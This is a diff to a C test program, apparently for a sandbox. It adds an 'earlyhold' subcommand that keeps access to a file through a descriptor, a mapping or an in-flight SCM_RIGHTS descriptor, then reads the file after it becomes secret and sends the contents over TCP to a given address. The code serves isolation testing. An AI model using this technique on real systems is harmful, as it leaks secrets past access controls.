@@ -1593,6 +1593,70 @@ int main(int argc, char **argv) {
         if (r == 0 && k > 0) report("after send", send(s, key, k, 0));
         return 0;
     }
+    if (!strcmp(name, "earlyhold") && argc == 6) {
+        // earlyhold HOW PATH IP PORT: holds PATH (an ordinary file now) before it
+        // becomes a secret: HOW fd (a descriptor), map (a shared mapping, the
+        // descriptor closed), inflight (a descriptor passed with SCM_RIGHTS into a
+        // socket's queue, every descriptor of it closed). Creates `held`, waits
+        // for `go`, reads what the file holds then through what it kept, and
+        // connects and sends it.
+        const char *how = argv[2], *path = argv[3];
+        int fd = open(path, O_RDONLY);
+        report("earlyhold open", fd);
+        if (fd < 0) return 1;
+        char *map = NULL;
+        int sp[2] = {-1, -1};
+        if (!strcmp(how, "map")) {
+            map = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
+            report("earlyhold mmap", map == MAP_FAILED ? -1 : 0);
+            if (map == MAP_FAILED) return 1;
+            close(fd);
+            fd = -1;
+        } else if (!strcmp(how, "inflight")) {
+            report("earlyhold socketpair", socketpair(AF_UNIX, SOCK_DGRAM, 0, sp));
+            char cbuf[CMSG_SPACE(sizeof(int))] = {0}, one = 'x';
+            struct iovec io = {.iov_base = &one, .iov_len = 1};
+            struct msghdr mh = {.msg_iov = &io, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof cbuf};
+            struct cmsghdr *c = CMSG_FIRSTHDR(&mh);
+            c->cmsg_level = SOL_SOCKET;
+            c->cmsg_type = SCM_RIGHTS;
+            c->cmsg_len = CMSG_LEN(sizeof(int));
+            memcpy(CMSG_DATA(c), &fd, sizeof fd);
+            report("earlyhold pass", sendmsg(sp[0], &mh, 0));
+            close(fd);
+            fd = -1;
+        }
+        int h = open("held", O_WRONLY | O_CREAT, 0600);
+        if (h >= 0) close(h);
+        printf("earlyhold held\n");
+        fflush(stdout);
+        for (int i = 0; i < 6000 && access("go", F_OK) != 0; i++) usleep(10000);
+        if (sp[1] >= 0) {
+            char cbuf[CMSG_SPACE(sizeof(int))] = {0}, one;
+            struct iovec io = {.iov_base = &one, .iov_len = 1};
+            struct msghdr mh = {.msg_iov = &io, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof cbuf};
+            long r = recvmsg(sp[1], &mh, 0);
+            report("earlyhold receive", r);
+            struct cmsghdr *c = CMSG_FIRSTHDR(&mh);
+            if (r == 1 && c && c->cmsg_type == SCM_RIGHTS) memcpy(&fd, CMSG_DATA(c), sizeof fd);
+        }
+        char buf[256] = "LEAK:";
+        ssize_t k = -1;
+        if (map) {
+            k = (ssize_t)strnlen(map, 200);
+            memcpy(buf + 5, map, k);
+        } else if (fd >= 0) {
+            k = pread(fd, buf + 5, 200, 0);
+        }
+        printf("earlyhold read: %zd\n", k);
+        fflush(stdout);
+        struct sockaddr_in sa;
+        int s = inet_socket(SOCK_STREAM, argv[4], atoi(argv[5]), &sa);
+        long r = s >= 0 ? connect(s, (struct sockaddr *)&sa, sizeof sa) : -1;
+        if (s >= 0) report("earlyhold connect", r);
+        if (r == 0 && k > 0) report("earlyhold send", send(s, buf, 5 + k, 0));
+        return 0;
+    }
     if (!strcmp(name, "isoleak") && argc == 6) {
         // isoleak HOW PATH IP PORT: opens PATH (plain; creat: O_RDONLY|O_CREAT;
         // openat2), reads it, then connects and sends what it read.
